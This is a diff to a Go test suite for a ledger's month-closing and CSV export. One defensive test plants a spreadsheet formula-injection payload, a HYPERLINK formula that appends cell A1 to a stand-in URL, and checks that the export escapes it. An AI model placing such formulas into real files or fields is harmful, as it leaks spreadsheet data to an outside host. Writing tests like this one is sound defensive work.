@@ -97,6 +97,30 @@ func TestAMonthIsClosedByFourEyes(t *testing.T) {
 	})
 }
 
+// TestMonthsAreClosedOneAfterTheOther: who approves March does not close January with it.
+func TestMonthsAreClosedOneAfterTheOther(t *testing.T) {
+	each(t, func(t *testing.T, db *store.DB) {
+		january := bill("bill/0", 700, 0)
+		january.Date, january.Entries = march.AddMonths(-2), january.Entries[:2]
+		must(t, post(t, db, january, bill("bill/1", 1000, 190)))
+		_, err := asks(t, db, ann, "", "2026-03", "")
+		refused(t, err, "monthBeforeOpen")
+		if !strings.Contains(err.Error(), "2026-01") {
+			t.Errorf("which one? %v", err)
+		}
+		refused(t, db.Write(t.Context(), ann, func(tx *store.Tx) error { return ledger.Close(tx, "acme", march) }), "monthBeforeOpen")
+		closed(t, db, "2026-01")
+		closed(t, db, "2026-03") // nothing is booked in February
+		reading(t, db, func(tx *store.Tx) error {
+			to, err := ledger.ClosedTo(tx, "acme")
+			if to != march.AddMonths(1).AddDays(-1) {
+				t.Errorf("closed up to %s", to)
+			}
+			return err
+		})
+	})
+}
+
 func TestAMonthIsOpenedAgainForAReason(t *testing.T) {
 	each(t, func(t *testing.T, db *store.DB) {
 		must(t, post(t, db, bill("bill/1", 1000, 190)))
@@ -239,6 +263,25 @@ func TestAClosedMonthIsExportedAlwaysTheSame(t *testing.T) {
 	})
 }
 
+// TestNoTextIsAFormula: a spreadsheet program shows what a customer or clerk has written and
+// does not work it out.
+func TestNoTextIsAFormula(t *testing.T) {
+	each(t, func(t *testing.T, db *store.DB) {
+		b := bill("@bill", 1000, 190)
+		b.What, b.Entries[0].Party = `=HYPERLINK("https://example.com/?"&A1,"Bill")`, "-a1"
+		must(t, post(t, db, b))
+		must(t, db.Write(t.Context(), ann, func(tx *store.Tx) error {
+			return ledger.ChartAccounts.Create(tx, &ledger.ChartAccount{Account: "receivable", GLAccount: "1400", Name: "+1 = 2"})
+		}))
+		closed(t, db, "2026-03")
+		text, _, err := export(t, db, march, ledger.ByEntry)
+		must(t, err)
+		if want := `entry,acme,2026-03,1,2026-03-14,1400,'+1 = 2,receivable,'-a1,'@bill,"'=HYPERLINK(""https://example.com/?""&A1,""Bill"")",EUR,11.90,0.00,1`; !strings.Contains(text, want+"\n") {
+			t.Errorf("%s\nwant\n%s", text, want)
+		}
+	})
+}
+
 // TestTheBooksOverHTTP walks the API: trial balance, entries page by page, an export asked
 // for twice and fetched, a month that was changed by hand.
 func TestTheBooksOverHTTP(t *testing.T) {
@@ -343,7 +386,9 @@ func TestTheChartKnowsTheBooks(t *testing.T) {
 // TestTwoCloseAtOnce: requests of two people are done by two others at the same time.
 func TestTwoCloseAtOnce(t *testing.T) {
 	each(t, func(t *testing.T, db *store.DB) {
-		must(t, post(t, db, bill("bill/1", 1000, 190)))
+		b := bill("bill/1", 1000, 190)
+		b.Date = march.AddMonths(1) // March needs no closing before April
+		must(t, post(t, db, b))
 		id, err := asks(t, db, ann, "", "2026-03", "")
 		must(t, err)
 		april, err := asks(t, db, ann, "", "2026-04", "")
@@ -399,7 +444,9 @@ func TestExportsAddUp(t *testing.T) {
 			all = append(all, b)
 		}
 		must(t, post(t, db, all...))
-		closed(t, db, "2026-05")
+		for _, month := range []string{"2026-03", "2026-04", "2026-05"} {
+			closed(t, db, month)
+		}
 		sums := map[string]int64{} // of all months, by account and currency
 		for month := march; month.Month <= time.May; month = month.AddMonths(1) {
 			_, byEntry, err := export(t, db, month, ledger.ByEntry)
